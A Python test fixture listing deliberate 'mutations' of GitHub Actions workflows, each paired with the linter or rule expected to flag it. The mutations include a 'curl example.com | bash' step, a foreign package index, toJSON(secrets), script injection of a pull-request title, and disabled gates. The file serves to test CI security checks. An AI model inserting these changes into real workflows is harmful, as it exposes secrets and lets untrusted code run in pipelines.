"""Workflows made worse: each in one place, by the rule or the linter that must notice."""

from typing import Final

CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
PULL_REQUEST = "workflows/pull-request.yml"
REPORT = "workflows/report.yml"
COMMENT = "workflows/comment.yml"
TRAIN = "workflows/train.yml"
MAIN = "workflows/main.yml"
NIGHTLY = "workflows/nightly.yml"
RELEASE = "workflows/release.yml"
ROLLBACK = "workflows/rollback.yml"
SETUP = "actions/setup/action.yml"
NO_PERMISSIONS = "permissions: {}\n"
NO_CREDENTIALS = "          persist-credentials: false\n"
WITH_CREDENTIALS = "        with:\n" + NO_CREDENTIALS
GATE = """grep --extended-regexp --line-regexp '((success|skipped) ?)+' <<< "$RESULTS\""""
HEAD_SHA = "${{ github.event.workflow_run.head_sha }}"
GIVEN = "GITHUB_TOKEN: ${{ github.token }}"
MAY_FAIL = "    continue-on-error: true\n"
# What is worse, in which file, and the text before and after.
MUTANTS: Final = {
    "zizmor": [
        ("a branch for a pin", PULL_REQUEST, CHECKOUT, "actions/checkout@main"),
        ("a tag for a pin", PULL_REQUEST, CHECKOUT, "actions/checkout@v7.0.1"),
        ("half a commit", TRAIN, CHECKOUT, "actions/checkout@3d3c42e # v7.0.1"),
        ("an action of the work tree", TRAIN, "$/.github", "./.github"),
        ("write-all", TRAIN, NO_PERMISSIONS, "permissions: write-all\n"),
        ("no permissions on top", TRAIN, NO_PERMISSIONS, ""),
        (
            "read-all in a job",
            MAIN,
            "    permissions:\n      contents: read # check out\n",
            "    permissions: read-all\n",
        ),
        (
            "a scope without a reason",
            RELEASE,
            "packages: write # push the image",
            "packages: write",
        ),
        ("pull_request_target", PULL_REQUEST, "  pull_request:\n", "  pull_request_target:\n"),
        ("pull_request_target as well", TRAIN, "on:\n", "on:\n  pull_request_target:\n"),
        (
            "an expression in a script",
            PULL_REQUEST,
            "run: make check",
            'run: make check TITLE="${{ github.event.pull_request.title }}"',
        ),
        (
            "an input in the script of an action",
            SETUP,
            "run: make setup",
            "run: make setup PYTHON=python${{ inputs.python-version }}",
        ),
        ("an input in a script", ROLLBACK, '--reason="$REASON"', '--reason="${{ inputs.reason }}"'),
        ("credentials in the clone", TRAIN, WITH_CREDENTIALS, ""),
        ("credentials kept", TRAIN, "als: false", "als: true"),
        ("secrets without a place", RELEASE, "    environment: release\n", ""),
        (
            "a machine of one's own",
            TRAIN,
            "runs-on: ubuntu-latest",
            "runs-on: [self-hosted, linux]",
        ),
        (
            "every secret at once",
            TRAIN,
            "${{ secrets.MLFLOW_TRACKING_USERNAME }}",
            "${{ toJSON(secrets) }}",
        ),
        (
            "an image that moves",
            TRAIN,
            "    name: train\n",
            "    name: train\n    container: python:latest\n",
        ),
        (
            "commands in the log",
            TRAIN,
            "\njobs:\n",
            "\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n\njobs:\n",
        ),
    ],
    "actionlint": [
        (
            "a step that does not exist",
            RELEASE,
            "steps.image.outputs.digest",
            "steps.imag.outputs.digest",
        ),
        ("a job that does not exist", MAIN, "needs: test", "needs: tests"),
        ("an unquoted word", ROLLBACK, '--reason="$REASON"', "--reason=$REASON"),
        ("a misspelt key", TRAIN, "    timeout-minutes: 60", "    timeout-minute: 60"),
        (
            "an input that no action has",
            PULL_REQUEST,
            "          python-version: ${{ matrix",
            "          python: ${{ matrix",
        ),
    ],
    "pinned": [
        ("a pin without its version", TRAIN, CHECKOUT, CHECKOUT.partition(" ")[0]),
        ("a pin of another version", TRAIN, "# v7.0.1", "# v7.0.2"),
        ("a commit without confirmation", TRAIN, "@3d3c42e5", "@3d3c42e6"),
        ("an action without confirmation", TRAIN, "actions/checkout", "action/checkout"),
        ("an action that is not there", TRAIN, "actions/setup\n", "actions/set\n"),
    ],
    "ends_in_time": [
        ("no timeout", TRAIN, "    timeout-minutes: 60\n", ""),
        ("ten hours", TRAIN, "minutes: 60", "minutes: 600"),
    ],
    "nothing_to_steal": [
        (
            "a secret for a pull request",
            REPORT,
            "${{ github.token }}",
            "${{ secrets.MLFLOW_TRACKING_PASSWORD }}",
        ),
        (
            "a team's server for a pull request",
            PULL_REQUEST,
            "          PIPELINE__PROMOTION__MODE: disabled",
            "          MLFLOW_TRACKING_URI: ${{ vars.MLFLOW_TRACKING_URI }}",
        ),
        (
            "a pull request that writes",
            REPORT,
            "contents: read # check out; read",
            "pull-requests: write # comment",
        ),
        (
            "an environment for a pull request",
            PULL_REQUEST,
            "    timeout-minutes: 30\n",
            "    timeout-minutes: 30\n    environment: model-registry\n",
        ),
    ],
    "names_what_is_there": [
        (
            "two lines",
            PULL_REQUEST,
            "run: make check",
            "run: |\n          make check\n          make test",
        ),
        ("a target that is not there", PULL_REQUEST, "run: make check", "run: make chekc"),
        (
            "a module that is not there",
            TRAIN,
            "pipeline.experiment_tracking",
            "pipeline.experiment_traking",
        ),
        ("a script that is not there", MAIN, "run: .ci/tools", "run: .ci/tool"),
    ],
    "every_check_is_required": [
        (
            "a check that is not required",
            PULL_REQUEST,
            "integration, workflows, image]",
            "integration, workflows]",
        ),
        (
            "a skipped gate, which counts as passed",
            PULL_REQUEST,
            "    if: always() # a skipped check would count as passed\n",
            "",
        ),
    ],
    "reviewed": [
        # What a pull request brought is run.
        ("its head", COMMENT, NO_CREDENTIALS, NO_CREDENTIALS + f"          ref: {HEAD_SHA}\n"),
        ("its checkout", COMMENT, "run: .venv", "run: gh pr checkout 7 && .venv"),
        ("its files among ours", COMMENT, "path: ${{ runner.temp }}/model-report", "path: ."),
        ("another artifact", COMMENT, "name: model-report", "name: code"),
        ("a head that it names", COMMENT, HEAD_SHA, "$(cat model-report/sha)"),
        ("more than pull requests", COMMENT, "workflow_run.event == 'pull_request' && ", ""),
        ("a request of a stranger", TRAIN, "branches: [main]", "branches: ['**']"),
        # Other code is run.
        ("a script of the net", MAIN, "run: .ci/tools", "run: .ci/tools; curl example.com | bash"),
        (
            "a line of Python",
            TRAIN,
            "-m pipeline.feature_eng",
            "-c 'import x' -m pipeline.feature_eng",
        ),
        ("a container", RELEASE, "run: docker login", "run: docker run x && docker login"),
        ("a package without a pin", TRAIN, "run: .venv", "run: pip install x && .venv"),
        (
            "an index of others",
            SETUP,
            "REQUIREMENTS: ${{",
            "PIP_INDEX_URL: https://x\n        R: ${{",
        ),
        ("modules of others", TRAIN, GIVEN, "PYTHONPATH: /tmp\n          " + GIVEN),
        ("a file before each script", TRAIN, GIVEN, "BASH_ENV: /tmp/x\n          " + GIVEN),
        ("another lock", RELEASE, "requirements: requirements.txt", "requirements: x.txt"),
        # Green without work.
        ("make that only prints", MAIN, "run: make test", "run: make -n test"),
        ("make that is told so", MAIN, "\njobs:\n", "\nenv:\n  MAKEFLAGS: -n\njobs:\n"),
        (
            "tests that are left out",
            NIGHTLY,
            "\njobs:\n",
            "\nenv:\n  PYTEST_ADDOPTS: -k x\njobs:\n",
        ),
        ("a machine that lacks all", MAIN, "\njobs:\n", '\nenv:\n  CI: ""\njobs:\n'),
        ("a failure that passes", NIGHTLY, "run: make faults", "run: make faults || true"),
        ("a job that may fail", PULL_REQUEST, "    name: image\n", "    name: image\n" + MAY_FAIL),
        ("an image as it is", PULL_REQUEST, "image verify heart-disease:candidate", "image --help"),
        ("a gate that always opens", PULL_REQUEST, f"run: {GATE}", "run: grep --version"),
        ("a job for some", PULL_REQUEST, "    name: check\n", "    name: check\n    if: false\n"),
        # Gate and order.
        ("no promotion", TRAIN, GIVEN, "PIPELINE__PROMOTION__MODE: disabled\n          " + GIVEN),
        ("no gate", TRAIN, GIVEN, "PIPELINE__PROMOTION__FLOORS: '{}'\n          " + GIVEN),
        ("a push without a build", RELEASE, "    needs: build\n", ""),
        (
            "a release in any case",
            RELEASE,
            "!cancelled() && needs.push.result",
            "always() || needs.x",
        ),
        ("a rollback by force", ROLLBACK, "rollback --reason", "rollback --force --reason"),
        ("a rollback of any branch", ROLLBACK, "    if: github.ref == 'refs/heads/main'\n", ""),
        ("two trainings at once", TRAIN, "  group: train\n", "  group: train-${{ github.sha }}\n"),
        ("a waiting run is dropped", TRAIN, "  queue: max\n", ""),
        ("a running job is dropped", RELEASE, "progress: false", "progress: true"),
        ("training twice", TRAIN, " --once-per-commit", ""),
        # What is shipped.
        (
            "nothing signed, all green",
            RELEASE,
            "    name: attest\n",
            "    name: attest\n" + MAY_FAIL,
        ),
        (
            "another subject",
            RELEASE,
            "digest: ${{ needs.push.outputs.digest }}",
            "digest: sha256:0",
        ),
        ("no vulnerability", RELEASE, "release build\n", "release build --allow-unscanned\n"),
        ("one that is accepted", RELEASE, "release build\n", "release build --accept CVE-2026-1\n"),
        ("another database of them", RELEASE, "OSV_URL: ${{ vars.OSV_URL }}", "OSV_URL: https://x"),
        ("another base", RELEASE, "BASE_IMAGE: ${{ vars.BASE_IMAGE }}", "BASE_IMAGE: x"),
        ("a tag without main", RELEASE, "          fetch-depth: 0\n", ""),
        ("a registry of anybody", RELEASE, "!github.event.repository.private }}", "false }}"),
        (
            "a cache",
            RELEASE,
            "          requirements:",
            "          cache: pip\n          requirements:",
        ),
        ("caches of others", RELEASE, "cache-mode: none\n", ""),
        # What may be written, and with whose secrets.
        ("a further scope", TRAIN, "contents: write", "packages: write # x\n      contents: write"),
        ("writing for reading", RELEASE, "contents: read # check", "contents: write # check"),
        ("a secret for all", RELEASE, "\njobs:\n", "  X: ${{ secrets.X }}\njobs:\n"),
        ("another place", RELEASE, "    environment: release\n", "    environment: production\n"),
        ("the registry of one owner", RELEASE, 'login "$REGISTRY"', "login registry.example"),
    ],
}
